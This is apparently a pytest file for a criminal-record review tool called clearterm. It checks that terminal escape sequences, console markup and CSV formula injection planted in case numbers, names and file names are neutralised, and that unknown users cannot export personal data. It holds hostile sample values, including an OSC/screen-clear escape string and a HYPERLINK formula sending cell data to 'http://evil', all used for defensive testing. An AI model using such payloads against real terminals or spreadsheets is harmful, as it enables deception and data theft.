"""Issue 13, items 6, 7, 8 and 16: output that cannot be turned against its reader.

- item 6: terminal controls in the data (a case number ``\\x1b]0;PWNED\\x07\\x1b[2J``) never reach
  the terminal: not from ``queue``, ``decide``, ``explain``, ``export``, ``quarantine``, nor from
  the workstation;
- item 7: no CSV cell clearterm writes starts a formula;
- item 8: the workstation's palette offers no screenshot (nor other file-writing system command);
- item 16: commands that print personal data need a known user; ``decide`` can address a
  person id holding ``/``.

The hostile values are put into the store with SQL after an ordinary ingest (ingest itself may
refuse control characters: these tests are about what is shown of a store that holds them).
"""

from __future__ import annotations

import asyncio
import csv
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from clearterm.domain.policy import Policy
from clearterm.domain.text import csv_row, csv_safe, is_safe_text, safe_text
from clearterm.services.evaluate import evaluate_store
from clearterm.ingest import ingest_file
from clearterm.storage import open_store
from clearterm.storage.reviews import refresh_search_index

from conftest import LOGIN, add_users, write_canonical_csv

TODAY = date(2026, 11, 21)
HOSTILE = "\x1b]0;PWNED\x07\x1b[2J"
HOSTILE_CASE = "13CR1" + HOSTILE  # the case number of issue 13, item 6
HOSTILE_C1 = "P\x9b2J\x9d0;C1\x07"  # a person id with C1 CSI / OSC
HOSTILE_NAME = "Ann\x1b[31mRED\x08\x7f"
MARKUP_CASE = "[/]16CR[b]X[@click=app.quit]Q"  # console markup in a case number: shown, not read
SLASH_PERSON = "P/7"  # item 16: a person id holding '/'
#: Bytes no output may hold: ESC, BEL, backspace, DEL, the C1 CSI and OSC (as UTF-8 and as code points).
FORBIDDEN = ("\x1b", "\x07", "\x08", "\x7f", "\x9b", "\x9d")

AUTOMATIC = dict(statute="720 ILCS 550/4(c)", disposition="Plea Of Guilty", offense_class="A", county="Cook")
PETITION = dict(statute="720 ILCS 550/4(d)", disposition="Finding Guilty", offense_class="4", county="Cook")
ROWS = [
    dict(record_id="H1", case_number="HOSTILE01", person_id="P1", offense_date="2013-05-01", last_name="Zed",
         first_name="Ann", date_of_birth="1980-04-02", **PETITION),
    dict(record_id="H2", case_number="HOSTILE02", person_id="C1PERSON", offense_date="2012-05-01",
         last_name="Yoyo", first_name="Bo", **AUTOMATIC),
    dict(record_id="S1", case_number="14CR7", person_id="P/7", offense_date="2014-05-01", last_name="Xu",
         first_name="Cy", **AUTOMATIC),
    dict(record_id="M1", case_number="MARKUP01", person_id="P8", offense_date="2013-05-01", last_name="Vo",
         first_name="Ed", **PETITION),
    # "15CR/9/Q" reads two ways: case 15CR/9 person Q, or case 15CR person 9/Q
    dict(record_id="A1", case_number="15CR/9", person_id="Q", offense_date="2015-05-01", **AUTOMATIC),
    dict(record_id="A2", case_number="15CR", person_id="9/Q", offense_date="2015-05-01", **AUTOMATIC),
    dict(record_id="F1", case_number="=1+2", person_id="+P9", offense_date="2011-05-01", last_name="Wu",
         first_name="Di", **AUTOMATIC),
]


def build_hostile_store(db: Path) -> Path:
    """Ingest ordinary rows, then give them hostile values with SQL, then evaluate."""
    src = db.with_suffix(".csv")
    write_canonical_csv(src, ROWS)
    store = open_store(db, synchronous="NORMAL")
    try:
        ingest_file(store, src, today=TODAY)
        with store.write() as conn:
            conn.execute("UPDATE records SET case_number = ?, first_name = ? WHERE record_id = 'H1'",
                         (HOSTILE_CASE, HOSTILE_NAME))
            conn.execute("UPDATE records SET person_id = ? WHERE record_id = 'H2'", (HOSTILE_C1,))
            conn.execute("UPDATE records SET case_number = ? WHERE record_id = 'M1'", (MARKUP_CASE,))
        evaluate_store(store, Policy(), TODAY)
        refresh_search_index(store)
    finally:
        store.close()
    return db


@pytest.fixture(scope="module")
def hostile_base(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "base.db"
    build_hostile_store(db)
    add_users(db, {LOGIN: ["reviewer"], "alice": ["reviewer"]})
    return db


@pytest.fixture
def hostile_db(hostile_base, tmp_path) -> Path:
    import shutil

    target = tmp_path / "store.db"
    shutil.copy(hostile_base, target)
    return target


def run(db: Path, *args: str, login: str = LOGIN, cwd: Path | None = None) -> tuple[int, str]:
    """The real command in a subprocess: what it writes, as text (undecodable bytes kept visible)."""
    env = {k: v for k, v in os.environ.items() if k not in ("SUDO_USER", "SUDO_UID", "CLEARTERM_DEBUG")}
    env.update({"LOGNAME": login, "USER": login, "CI": "1", "COLUMNS": "200"})
    r = subprocess.run([sys.executable, "-m", "clearterm.cli", "--db", str(db), *args], env=env, cwd=cwd,
                       capture_output=True, timeout=120)
    return r.returncode, (r.stdout + r.stderr).decode("utf-8", errors="backslashreplace")


def assert_no_controls(text: str, what: str) -> None:
    bad = [repr(c) for c in FORBIDDEN if c in text]
    assert not bad, f"{what} wrote terminal controls {bad}: {text[:400]!r}"


# -- item 6: the pure function ----------------------------------------------------------------------------
def test_item6_safe_text_shows_controls_as_pictures():
    assert safe_text(HOSTILE) == "␛]0;PWNED␇␛[2J"
    assert safe_text("a\x9bb\x9dc\x85d") == "a\ufffdb\ufffdc\ufffdd"
    assert safe_text("x\u202eevil\u2066\u2028\ud800") == "x\ufffdevil\ufffd\ufffd\ufffd"
    assert safe_text("a\tb\nc\rd\x08\x7f\x00") == "a␉b␊c␍d␈␡␀"
    assert safe_text("a\nb\r", keep_newlines=True) == "a\nb␍"
    plain = "12CR-0009 Quillfeather Zoë 720 ILCS 550/4(c)"
    assert safe_text(plain) is plain  # unchanged text is not copied
    for s in (HOSTILE, HOSTILE_C1, HOSTILE_NAME, "\u202e\ud800"):
        out = safe_text(s)
        assert is_safe_text(out) and safe_text(out) == out and len(out) == len(s)


# -- item 6: the command line ------------------------------------------------------------------------------
def test_item6_cli_queue_explain_decide_export_print_no_controls(hostile_db, tmp_path):
    code, text = run(hostile_db, "queue", "--limit", "20")
    assert code == 0, text
    assert_no_controls(text, "queue")
    assert "13CR1␛]0;PWNED␇␛[2J" in text and "P\ufffd2J\ufffd0;C1␇" in text

    code, text = run(hostile_db, "explain", "H1")
    assert code == 0, text
    assert_no_controls(text, "explain")
    assert "case 13CR1␛]0;PWNED" in text  # (Rich drops the BEL of a Text object; the ESC is shown)

    code, text = run(hostile_db, "decide", HOSTILE_CASE, "--defer")
    assert code == 0, text
    assert_no_controls(text, "decide")
    assert "recorded deferral on case 13CR1␛]0;PWNED␇␛[2J/P1" in text

    # a case number typed with controls that matches nothing: the refusal echoes it safely
    code, text = run(hostile_db, "decide", "NOPE" + HOSTILE, "--approve")
    assert code == 2 and text.count("\n") == 1, text
    assert_no_controls(text, "decide's refusal")

    for what in ("decisions", "reviews"):
        out = tmp_path / f"{what}.csv"
        code, text = run(hostile_db, "export", what, "--out", str(out))
        assert code == 0, text
        assert_no_controls(text, f"export {what}")

    code, text = run(hostile_db, "quarantine")
    assert code == 0, text
    assert_no_controls(text, "quarantine")


def test_item6_cli_file_names_and_markup_in_data_are_shown_as_typed(hostile_db, tmp_path):
    """A file name is data too (ingest prints it); console markup in data is not interpreted."""
    src = tmp_path / ("x\x1b[2J\x07.csv")
    write_canonical_csv(src, [dict(ROWS[2], record_id="S2", case_number="[link=http://evil]15CR1[/link]")])
    code, text = run(hostile_db, "ingest", str(src), "--today", "2026-11-21")
    assert code == 0, text
    assert_no_controls(text, "ingest")
    assert "x␛[2J␇.csv" in text
    code, text = run(hostile_db, "evaluate", "--as-of", "2026-11-21")
    assert code == 0, text
    code, text = run(hostile_db, "explain", "S2")
    assert code == 0, text
    assert "[link=http://evil]15CR1[/link]" in text  # shown as typed, no hyperlink made of it
    code, text = run(hostile_db, "queue", "--search", "15CR1")
    assert "[link=http://evil]" in text.replace("\n", ""), text


def test_item6_safe_console_cleans_text_objects_and_cells():
    """The one place for the CLI: a Text object or a table cell holding controls prints clean."""
    import io

    from rich.table import Table
    from rich.text import Text

    from clearterm.cli.console import SafeConsole

    for terminal in (False, True):
        buf = io.StringIO()
        c = SafeConsole(file=buf, force_terminal=terminal, width=120, highlight=False)
        c.print(Text.assemble(("bold", "bold"), HOSTILE))
        t = Table("case", "person")
        t.add_row(HOSTILE_CASE, HOSTILE_C1)
        c.print(t)
        c.print("[red]" + HOSTILE + "[/red]")
        got = buf.getvalue()
        if terminal:  # Rich's own styling codes are there; the data's are not
            assert "\x1b]0;" not in got and "\x1b[2J" not in got and "\x07" not in got and "\x9b" not in got
            assert "[red]" in got  # markup is off unless a call asks for it
        else:
            assert_no_controls(got, "SafeConsole")
        assert got.count("␛]0;PWNED") == 3 and got.count("␛]0;PWNED␇␛[2J") == 2  # Rich drops a Text's BEL


# -- item 6: the workstation -------------------------------------------------------------------------------
async def _settle(pilot, rounds: int = 4) -> None:
    for _ in range(rounds):
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()


def _terminal_output(app) -> str:
    """What the app would write to the terminal for the whole screen now (the driver's input)."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    return update.render_segments(app.console)


def test_item6_workstation_draws_no_controls(hostile_db):
    from clearterm.tui.app import ReviewApp

    app = ReviewApp(hostile_db, "alice", today=TODAY)
    seen: dict[str, str] = {}

    async def main():
        async with app.run_test(size=(100, 30), notifications=True) as pilot:
            await _settle(pilot)
            seen["queue"] = _terminal_output(app)
            # open the hostile case: header, person, charges, history, and a notification naming it
            (row,) = [r for r in app.queue_screen.rows if r.case_number == HOSTILE_CASE]
            app.open_case(row)
            await _settle(pilot)
            seen["case"] = _terminal_output(app)
            await pilot.press("d")  # defer: the notice names the case
            await _settle(pilot)
            seen["after action"] = _terminal_output(app)
            seen["notice"] = app.last_notice
            # console markup in a case number: the exclude and objection dialogs show it as it is
            (row,) = [r for r in app.queue_screen.rows if r.case_number == MARKUP_CASE]
            app.open_case(row)
            await _settle(pilot)
            for key in ("x", "o"):
                await pilot.press(key)
                await _settle(pilot)
                seen[f"dialog {key}"] = _terminal_output(app)
                await pilot.press("escape")
                await _settle(pilot)
            seen["markup case"] = _terminal_output(app)
            seen["running"] = str(app.is_running)

    asyncio.run(main())
    for what, text in seen.items():
        if what in ("notice", "running"):
            continue
        # Textual's own output is escape sequences (colours, cursor moves); the data's are not there
        assert "\x1b]0;" not in text and "\x1b[2J" not in text, what
        assert "\x07" not in text and "\x08" not in text and "\x7f" not in text, what
        assert "\x9b" not in text and "\x9d" not in text, what
    assert "13CR1␛]0;PWNED" in seen["queue"]  # the whole case number in its column, its controls visible
    # shown, visibly (Rich's Text drops BEL and backspace itself: they are simply not there)
    assert "13CR1␛]0;PWNED␛[2J/P1" in seen["case"]
    assert "Ann␛[31mRED␡ Zed" in seen["case"]
    assert "13CR1" in seen["notice"]
    assert seen["running"] == "True"  # the markup did not stop the workstation (it raised MarkupError)
    assert f"Exclude case {MARKUP_CASE}/P8 from relief" in seen["dialog x"]
    assert f"Object to the petition in case {MARKUP_CASE}/P8" in seen["dialog o"]


def _run_in_pty(db: Path, keys: list[bytes], *, shown: bytes, seconds: float = 30.0) -> bytes:
    """Run ``clearterm review`` on a pseudo-terminal (80x24), wait until it has drawn ``shown``
    (at most ``seconds``), type ``keys``, quit; every byte it wrote."""
    import fcntl
    import select
    import struct
    import termios
    import time

    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    env = {k: v for k, v in os.environ.items() if k not in ("SUDO_USER", "SUDO_UID", "CLEARTERM_DEBUG", "CI")}
    env.update({"LOGNAME": LOGIN, "USER": LOGIN, "TERM": "xterm-256color", "COLUMNS": "80", "LINES": "24"})
    proc = subprocess.Popen([sys.executable, "-m", "clearterm.cli", "--db", str(db), "review"], stdin=slave,
                            stdout=slave, stderr=slave, env=env, start_new_session=True)
    os.close(slave)
    out = bytearray()

    def pump(until: float, stop: bytes | None = None) -> None:
        while time.monotonic() < until and not (stop and stop in out):
            r, _, _ = select.select([master], [], [], 0.05)
            if r:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    return
                if not chunk:
                    return
                out.extend(chunk)

    try:
        pump(time.monotonic() + seconds, shown)
        for k in keys:
            os.write(master, k)
            pump(time.monotonic() + 1.0)
        os.write(master, b"\x11")  # ctrl+q
        pump(time.monotonic() + 3.0)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(timeout=10)
        os.close(master)
    return bytes(out)


def test_item6_workstation_terminal_bytes_hold_no_data_controls(hostile_db):
    """End to end on a real terminal driver: the bytes the workstation writes to its terminal."""
    raw = _run_in_pty(hostile_db, [b"/", b"13CR1", b"\r", b"\r"], shown="PWN".encode())
    text = raw.decode("utf-8", errors="replace")
    assert "13CR1" in text and "PWNE" in text, text[-2000:]  # the hostile case was drawn
    assert "\x1b]0;PWNED" not in text and "]0;PWNED\x07" not in text
    assert "\x9b" not in text and "\x9d" not in text
    assert "␛]0;PWNE" in text  # shown as pictures


# -- item 7: formulas in CSV exports ---------------------------------------------------------------------
def test_item7_csv_safe_prefixes_formula_starts():
    assert csv_row(["=1+2", "+P9", "-3", -3, "@SUM(A1)", "\tx", "\rx", "ok", None, 7, "a=b", ""]) == [
        "'=1+2", "'+P9", "'-3", "'-3", "'@SUM(A1)", "'\tx", "'\rx", "ok", "", "7", "a=b", ""]
    assert csv_safe("'=already") == "'=already"  # a leading quote is not a formula start


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_item7_exports_neutralise_formulas(hostile_db, tmp_path):
    code, text = run(hostile_db, "decide", "14CR7", "--person", SLASH_PERSON, "--exclude",
                     '=HYPERLINK("http://evil/?"&A1,"click")')
    assert code == 0, text
    code, text = run(hostile_db, "decide", "=1+2", "--exclude", "-2+3 @x")
    assert code == 0, text

    dec = tmp_path / "decisions.csv"
    code, text = run(hostile_db, "export", "decisions", "--out", str(dec))
    assert code == 0, text
    assert dec.stat().st_mode & 0o777 == 0o600  # exports hold personal data (item 10: every export 0600)
    rows = _cells(dec)
    assert not _formula_cells(rows), _formula_cells(rows)
    (f1,) = [r for r in rows if r[0] == "F1"]
    assert f1[1:3] == ["'+P9", "'=1+2"]

    rev = tmp_path / "reviews.csv"
    code, text = run(hostile_db, "export", "reviews", "--out", str(rev))
    assert code == 0, text
    assert rev.stat().st_mode & 0o777 == 0o600
    rows = _cells(rev)
    assert not _formula_cells(rows), _formula_cells(rows)
    notes = {r[0]: r[5] for r in rows[1:]}
    assert notes["14CR7"] == "'" + '=HYPERLINK("http://evil/?"&A1,"click")'
    assert notes["'=1+2"] == "'-2+3 @x"


def test_item7_every_csv_writer_neutralises_formulas():
    """Every module of clearterm that writes CSV passes its cells through csv_row / csv_safe.

    ``synth.py`` is the one exception: it writes canonical input records for ``ingest`` (data, not
    a report), which must read back exactly as generated (docs/review.md)."""
    root = Path(__file__).resolve().parents[2] / "clearterm"
    writers = [p for p in root.rglob("*.py")
               if "csv.writer(" in p.read_text(encoding="utf-8") or "DictWriter(" in p.read_text(encoding="utf-8")]
    assert {str(p.relative_to(root)) for p in writers} >= {"cli/export.py"}
    for p in writers:
        if p.name == "synth.py":
            continue
        src = p.read_text(encoding="utf-8")
        assert "csv_row(" in src or "csv_safe(" in src, f"{p.relative_to(root.parent)} writes CSV without csv_row"


# -- item 16: access and addressing ----------------------------------------------------------------------
def test_item16_personal_data_commands_need_a_known_user(hostile_db, tmp_path):
    from clearterm.storage.audit import verify_chain

    def audit_rows() -> int:
        with open_store(hostile_db, create=False) as s:
            assert verify_chain(s.conn).ok
            return s.scalar("SELECT count(*) FROM audit")

    before = audit_rows()
    out = tmp_path / "x.csv"
    for args in (["queue"], ["explain", "H1"], ["quarantine"], ["export", "decisions", "--out", str(out)],
                 ["export", "reviews", "--out", str(out)]):
        code, text = run(hostile_db, *args, login="stranger")
        assert code == 4, (args, text)
        assert text.count("\n") == 1 and "'stranger' is not a clearterm user" in text, (args, text)
        assert "13CR1" not in text and "P1" not in text
        assert not out.exists(), args  # refused before the file is made
    assert audit_rows() == before  # a refusal is not audited as a stranger's export
    # a known user with no role (records staff) may read and export; the export names them
    add_users(hostile_db, {"clerk": []})
    code, text = run(hostile_db, "export", "reviews", "--out", str(out), login="clerk")
    assert code == 0, text
    with open_store(hostile_db, create=False) as s:
        assert s.conn.execute("SELECT actor FROM audit ORDER BY seq DESC LIMIT 1").fetchone()[0] == "clerk"


def test_item16_decide_addresses_a_person_id_holding_a_slash(hostile_db):
    code, text = run(hostile_db, "decide", "14CR7/P/7", "--approve")
    assert code == 0 and "case 14CR7/P/7" in text, text
    code, text = run(hostile_db, "decide", "14CR7", "--person", "P/7", "--undo")
    assert code == 0 and "undo" in text, text
    code, text = run(hostile_db, "decide", "14CR7", "--person", "P/8", "--approve")
    assert code == 2 and "no case 14CR7 for person P/8" in text, text
    # a reference that reads two ways is refused, naming both; --person settles it
    code, text = run(hostile_db, "decide", "15CR/9/Q", "--approve")
    assert code == 2 and text.count("\n") == 1, text
    assert "case 15CR/9 person Q" in text and "case 15CR person 9/Q" in text and "--person" in text
    code, text = run(hostile_db, "decide", "15CR", "--person", "9/Q", "--approve")
    assert code == 0 and "case 15CR/9/Q" in text, text
    code, text = run(hostile_db, "decide", "15CR/9", "--person", "Q", "--approve")
    assert code == 0 and "case 15CR/9/Q" in text, text
    with open_store(hostile_db, create=False) as s:
        got = s.conn.execute("SELECT case_number, person_id, action FROM reviews ORDER BY id").fetchall()
    assert got == [("14CR7", "P/7", "approve"), ("14CR7", "P/7", "undo"), ("15CR", "9/Q", "approve"),
                   ("15CR/9", "Q", "approve")]


def test_item16_resolve_case_tries_every_slash(hostile_db):
    from clearterm.services import review

    with open_store(hostile_db, create=False) as s:
        assert review.resolve_case(s.conn, "14CR7/P/7").person_id == "P/7"
        assert review.resolve_case(s.conn, "14CR7", "P/7").person_id == "P/7"
        assert review.resolve_case(s.conn, "15CR/9").person_id == "Q"  # the whole text is a case number
        with pytest.raises(review.AmbiguousReference) as ei:
            review.resolve_case(s.conn, "15CR/9/Q")
        assert {(c.case_number, c.person_id) for c in ei.value.cases} == {("15CR/9", "Q"), ("15CR", "9/Q")}
        with pytest.raises(review.CaseNotFound):
            review.resolve_case(s.conn, "14CR7/P/8")


# -- item 8: nothing in the workstation writes files -----------------------------------------------------
def test_item8_palette_offers_no_screenshot_and_saving_writes_nothing(hostile_db, tmp_path, monkeypatch):
    from textual.command import CommandPalette

    from clearterm.tui.app import ReviewApp

    home = tmp_path / "home"
    (home / "Downloads").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DOWNLOAD_DIR", str(home / "Downloads"))
    monkeypatch.chdir(home)
    app = ReviewApp(hostile_db, "alice", today=TODAY)
    seen: dict = {}

    async def main():
        async with app.run_test(size=(100, 30), notifications=True) as pilot:
            await _settle(pilot)
            seen["system"] = [c.title for c in app.get_system_commands(app.screen)]
            seen["bindings"] = sorted({b.binding.action for b in app.active_bindings.values()})
            await pilot.press("ctrl+p")
            await _settle(pilot)
            palette = app.screen
            seen["palette"] = isinstance(palette, CommandPalette)
            for query in ("screenshot", "theme", "save"):
                palette.query_one("Input").value = query
                await _settle(pilot, 8)
                await pilot.pause(0.3)
                options = palette.query_one("CommandList")
                seen[query] = [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
            await pilot.press("escape")
            await _settle(pilot)
            # every way Textual saves a screen: the action (also reachable from markup), the
            # methods behind the palette's Screenshot and TEXTUAL_SCREENSHOT
            await app.run_action("screenshot")
            app.action_screenshot()
            app.save_screenshot()
            app.save_screenshot(path=str(home))
            app.deliver_screenshot()
            await _settle(pilot)
            await pilot.pause(0.3)

    asyncio.run(main())
    assert seen["palette"]
    assert seen["system"] == ["Quit"]
    assert not any("screenshot" in a for a in seen["bindings"]), seen["bindings"]
    for query in ("screenshot", "theme", "save"):
        assert not any(w in p.lower() for p in seen[query] for w in ("screenshot", "theme", "svg")), seen[query]
    written = [p for p in home.rglob("*") if p.is_file()]
    assert written == [], written



# Slow (subprocesses, kill trials, a real terminal or many workstation sessions): CI runs it, the
# everyday run (pytest -m "not slow") leaves it out.
pytestmark = pytest.mark.slow


def test_item6_library_log_lines_never_reach_the_terminal(capfd):
    """fpdf2 logs the characters a font lacks (data, control characters included) and pyHanko logs
    tracebacks; the CLI silences those loggers before any command runs (found by an audit: ``batch
    sign`` of a case number holding ESC printed it raw through fpdf2's warning)."""
    import logging

    from clearterm.domain.logs import quiet_libraries

    quiet_libraries()
    logging.getLogger("fpdf.output").warning("Font X is missing the following glyphs: '\x1b' (\\x1b)")
    logging.getLogger("pyhanko_certvalidator").error("Traceback (most recent call last): ...")
    captured = capfd.readouterr()
    assert "\x1b" not in captured.err and "Traceback" not in captured.err and "glyphs" not in captured.err


def test_version_on_its_own():
    from typer.testing import CliRunner

    from clearterm.cli.main import app

    result = CliRunner().invoke(app, ["--version"])
    assert result.exit_code == 0 and result.stdout.startswith("clearterm ")
